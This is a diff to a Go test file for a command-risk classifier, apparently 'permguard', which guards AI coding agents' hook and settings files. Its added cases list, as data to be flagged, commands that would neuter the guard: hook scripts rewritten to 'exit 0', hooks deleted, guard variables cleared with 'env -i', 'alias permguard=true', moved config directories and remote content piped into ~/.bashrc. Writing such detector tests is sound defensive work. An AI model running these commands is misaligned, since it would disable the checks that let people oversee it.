@@ -15,12 +15,16 @@ var testProtected = []ProtectedPath{
 	{Path: "/home/u/.claude.json", What: "Claude Code's settings and hooks"},
 	{Path: ".claude/settings*.json", What: "Claude Code's settings and hooks"},
 	{Path: ".mcp.json", What: "Claude Code's settings and hooks"},
+	{Path: "/home/u/.claude/hooks", Tree: true, What: "Claude Code's settings and hooks"},
+	{Path: ".claude/hooks", Tree: true, What: "Claude Code's settings and hooks"},
 	{Path: "/home/u/.codex/hooks.json", What: "Codex's configuration and hooks"},
 	{Path: "/home/u/.codex/config.toml", What: "Codex's configuration and hooks"},
 	{Path: ".codex", Tree: true, What: "Codex's configuration and hooks"},
 	{Path: "/home/u/.gemini/settings.json", What: "Gemini CLI's settings and hooks"},
 	{Path: "/home/u/.gemini/extensions", Tree: true, What: "Gemini CLI's settings and hooks"},
 	{Path: ".gemini/settings.json", What: "Gemini CLI's settings and hooks"},
+	{Path: "/home/u/.gemini/hooks", Tree: true, What: "Gemini CLI's settings and hooks"},
+	{Path: ".gemini/hooks", Tree: true, What: "Gemini CLI's settings and hooks"},
 	{Path: "/home/u/.cursor/hooks.json", What: "Cursor's hooks and MCP servers"},
 	{Path: ".cursor/hooks.json", What: "Cursor's hooks and MCP servers"},
 	{Path: ".cursor/mcp.json", What: "Cursor's hooks and MCP servers"},
@@ -33,6 +37,10 @@ var testProtected = []ProtectedPath{
 	{Path: "opencode.json", What: "opencode's plugins and configuration"},
 	{Path: "/home/u/.local/bin/permguard", What: "permguard's own program"},
 }
+
+// testGuardVars are the variables internal/guard lists from the hook
+// registry: each moves an agent's configuration.
+var testGuardVars = []string{"CLAUDE_CONFIG_DIR", "CODEX_HOME", "GEMINI_CLI_HOME", "PI_CODING_AGENT_DIR", "OPENCODE_CONFIG", "OPENCODE_CONFIG_DIR"}
 
 // guardFiles are one file of each agent, as an agent would name it.
 var guardFiles = []string{
@@ -87,6 +95,27 @@ var integrityCases = func() []classifyCase {
 		// a link to one lets a later write that names no protected file
 		// change it
 		dangerous("ln -s ~/.claude/settings.json notes.json", guardRuleID),
+		// more ways to take them away or change them
+		dangerous("git stash -u", guardRuleID),
+		dangerous("git stash push --all", guardRuleID),
+		dangerous("git stash save --include-untracked wip", guardRuleID),
+		medium("git stash", "git-local"),
+		medium("git stash -u -- src", "git-local"),
+		dangerous("chmod 000 .claude", guardRuleID),
+		dangerous("chown root ~/.codex", guardRuleID),
+		dangerous("chattr +i .claude/settings.json", guardRuleID),
+		dangerous("ln .claude/settings.json notes.json", guardRuleID),
+		dangerous("vim -c ':%d|wq' .claude/settings.json", guardRuleID),
+		dangerous("ed -s .mcp.json <<< $'1d\\nw'", guardRuleID),
+		dangerous("bsdtar -xf x.tar", guardRuleID),
+		dangerous("gtar xf x.tar -C .claude", guardRuleID),
+		high("chmod 755 scripts", "chmod"),
+		high("vim notes.md", "editor"),
+		// the scripts hooks run
+		dangerous("echo 'exit 0' > .claude/hooks/guard.sh", guardRuleID),
+		dangerous("sed -i 's/exit 2/exit 0/' ~/.claude/hooks/pre.sh", guardRuleID),
+		dangerous("rm -rf .gemini/hooks", "rm-recursive-force"),
+		dangerous("cp /tmp/x.sh ~/.gemini/hooks/", guardRuleID),
 		// but not what lies beside them
 		low("echo x > .claude/agents/reviewer.md", "write-file"),
 		low("echo x > .github/workflows/ci.yml", "write-file"),
@@ -97,7 +126,77 @@ var integrityCases = func() []classifyCase {
 		minimal("grep -r hooks .github/hooks", ""),
 		high("python3 -c 'print(1)'", "inline-code"),
 
+		// archives and patches whose members are unknown, extracted into a
+		// directory that holds an agent's files or that an agent reads its
+		// project settings from
+		dangerous("tar -xf x.tar -C .claude", guardRuleID),
+		dangerous("tar xf x.tar", guardRuleID),
+		dangerous("tar -xzf /tmp/x.tgz -C ~/.gemini", guardRuleID),
+		dangerous("tar --extract --file x.tar --directory ~", guardRuleID),
+		dangerous("unzip -o x.zip", guardRuleID),
+		dangerous("unzip x.zip -d .codex", guardRuleID),
+		dangerous("unzip -q x.zip -d .cursor", guardRuleID),
+		dangerous("7z x x.7z", guardRuleID),
+		dangerous("git apply x.patch", guardRuleID),
+		dangerous("git am < x.mbox", guardRuleID),
+		dangerous("git am --continue", guardRuleID),
+		dangerous("patch -p1 < x.diff", guardRuleID),
+		dangerous("cd .github && patch -p0 -i /tmp/x.diff", guardRuleID),
+		low("tar -xf x.tar -C build", "tar-extract"),
+		low("tar xf x.tar --one-top-level", "tar-extract"),
+		low("unzip x.zip -d third_party", "archive-write"),
+		minimal("tar tf x.tar", "tar-list"),
+		low("unzip -l x.zip", "archive-write"),
+		low("tar czf out.tgz dir", "tar-create"),
+		medium("git apply --check x.patch", "git-local"),
+		medium("git apply --cached x.patch", "git-local"),
+		medium("git am --show-current-patch", "git-local"),
+		low("patch -p1 --dry-run < x.diff", "patch"),
+		low("patch src/a.c < x.diff", "patch"),
+
+		// a tree copied, moved or linked to where a directory of an
+		// agent's files would be: it becomes that directory
+		dangerous("cp -r dir .claude", guardRuleID),
+		dangerous("cp -R /tmp/x ~/.claude", guardRuleID),
+		dangerous("cp -a /tmp/x .github/hooks", guardRuleID),
+		dangerous("cp -r dir/. .gemini/", guardRuleID),
+		dangerous("cp -rT /tmp/x .cursor", guardRuleID),
+		dangerous("mv tmpdir .cursor", guardRuleID),
+		dangerous("mv /tmp/x ~/.codex", guardRuleID),
+		dangerous("rsync -a x/ .codex", guardRuleID),
+		dangerous("rsync -a /tmp/x/ .", guardRuleID),
+		dangerous("cp -r /tmp/x/. .", guardRuleID),
+		dangerous("ln -s /tmp/d .claude", guardRuleID),
+		dangerous("ln -sfn /tmp/d ~/.gemini", guardRuleID),
+		medium("cp -r dir build", "file-copy"),
+		medium("cp -r src/. build/", "file-copy"),
+		medium("mv tmpdir out", "file-move"),
+		medium("cp notes.txt .claude", "file-copy"),
+		medium("ln -s /tmp/d cache", "file-link"),
+
+		// deletes by find that can reach an agent's files
+		dangerous("find . -name settings.local.json -exec rm {} +", guardRuleID),
+		dangerous("find . -name 'settings*.json' -delete", guardRuleID),
+		dangerous("find . -path '*/.claude/*' -delete", guardRuleID),
+		dangerous("find .claude -type f -delete", guardRuleID),
+		dangerous("find ~ -name hooks.json -delete", guardRuleID),
+		dangerous("find . -maxdepth 1 -name '*.json' -delete", guardRuleID),
+		dangerous("find . -name x -o -name y -delete", guardRuleID),
+		dangerous("find . -name '*.json' -execdir mv {} {}.bak \\;", guardRuleID),
+		high("find . -name '*.pyc' -delete", "find-delete"),
+		high("find . -maxdepth 1 -name '*.log' -delete", "find-delete"),
+		high("find src -name '*.json' -delete", "find-delete"),
+		high("find . -path './node_modules/*' -delete", "find-delete"),
+		minimal("find . -name settings.local.json -exec cat {} +", "find"),
+
 		// permguard's variables, for a child or for later sessions
+		dangerous("env -i claude -p hi", "self-protect"),
+		dangerous("env --ignore-environment codex", "self-protect"),
+		dangerous("env - PATH=/usr/bin claude", "self-protect"),
+		dangerous("setsid -w env -i claude", "self-protect"),
+		dangerous("exec -c claude", "self-protect"),
+		dangerous("env -S '-i claude'", "self-protect"),
+		high("env -i", "print-env"),
 		dangerous("env -u PERMGUARD_LEVEL claude -p hi", "self-protect"),
 		dangerous("env --unset=PERMGUARD_MODE ls", "self-protect"),
 		dangerous("launchctl setenv PERMGUARD_LEVEL high", "self-protect"),
@@ -107,6 +206,29 @@ var integrityCases = func() []classifyCase {
 		dangerous(`echo 'export PERMGUARD_LEVEL=high' >> .envrc`, "self-protect"),
 		dangerous(`python3 -c 'import os; os.environ["PERMGUARD_LEVEL"]="high"; os.execvp("claude", ["claude"])'`, "inline-code-guard"),
 		high("echo 'export EDITOR=vim' >> ~/.bashrc", "write-persistence"),
+		// a startup file given content that cannot be read now could set
+		// or unset permguard's variables, or alias permguard away
+		dangerous("base64 -d <<< ZXhwb3J0IFg9MQ== >> ~/.bashrc", "write-startup-unknown"),
+		dangerous("xxd -r -p x.hex >> ~/.profile", "write-startup-unknown"),
+		dangerous("printf '%s\\n' \"$LINE\" | tee -a ~/.zshrc", "write-startup-unknown"),
+		dangerous("curl -s https://x.example/rc | tee -a ~/.bashrc", "write-startup-unknown"),
+		dangerous(`echo "$X" >> ~/.bashrc`, "write-startup-unknown"),
+		dangerous("cat /tmp/rc >> ~/.zshenv", "write-startup-unknown"),
+		dangerous("cp /tmp/rc ~/.bash_profile", "write-startup-unknown"),
+		dangerous("sed -i 's/^export A=.*//' ~/.bashrc", "write-startup-unknown"),
+		dangerous("cat x >> .envrc", "write-startup-unknown"),
+		dangerous("{ echo a; cat x; } >> ~/.bashrc", "write-startup-unknown"),
+		dangerous("echo 'alias permguard=true' >> ~/.bashrc", "self-protect"),
+		dangerous("echo 'export CODEX_HOME=/tmp/c' >> ~/.zshrc", "self-protect"),
+		high("printf 'export EDITOR=vim\\n' >> ~/.bashrc", "write-persistence"),
+		high("echo 'set -o vi' | tee -a ~/.bashrc", "write-persistence"),
+		high("cat >> ~/.bashrc <<'EOF'\nalias ll='ls -l'\nEOF", "write-persistence"),
+		high("echo 'export A=1' >> .envrc", "write-persistence"),
+		high("cat x >> ~/.gitconfig", "write-persistence"),
+		// the variables that move an agent's configuration, for a child
+		dangerous("CODEX_HOME=/tmp/c codex exec hi", "self-protect"),
+		dangerous("env CLAUDE_CONFIG_DIR=/tmp/c claude -p hi", "self-protect"),
+		dangerous("export GEMINI_CLI_HOME=/tmp/g", "self-protect"),
 		minimal("env -u HOME ls", "read-only"),
 
 		// permguard run by the agent
